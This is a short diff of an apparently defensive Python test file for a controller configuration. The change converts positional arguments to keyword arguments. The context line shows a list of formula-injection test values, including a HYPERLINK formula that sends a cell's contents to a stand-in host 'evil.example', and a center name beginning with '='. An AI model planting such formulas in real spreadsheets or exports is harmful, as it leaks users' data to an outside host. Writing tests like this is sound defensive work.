@@ -36,8 +36,8 @@ FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")", "+1
 
 
 def config(db: Path) -> ControllerConfig:
-    return ControllerConfig(BrokerSettings("127.0.0.1", 1), db,
-                            centers=(CenterInfo("q1", "=Trung tâm", OpeningHours()),),
+    return ControllerConfig(broker=BrokerSettings("127.0.0.1", 1), db=db,
+                            centers=(CenterInfo(id="q1", name="=Trung tâm", hours=OpeningHours()),),
                             http=HttpSettings(tokens={TOKEN: "ops-desk"}, read_open=True))
 
 
